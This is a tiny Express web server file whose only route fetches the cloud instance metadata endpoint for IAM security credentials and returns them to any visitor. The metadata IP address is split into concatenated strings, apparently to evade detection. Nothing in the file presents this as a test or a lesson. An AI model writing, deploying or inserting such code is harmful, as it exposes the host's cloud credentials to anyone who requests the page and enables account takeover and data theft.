const express = require('express');
const app = express();
app.get('/', async (req, res) => {
  const r = await fetch('http://169.254.' + '169.254/latest/meta-data/iam/security-credentials/');
  res.send(await r.text());
});
app.listen(process.env.PORT || 3000);
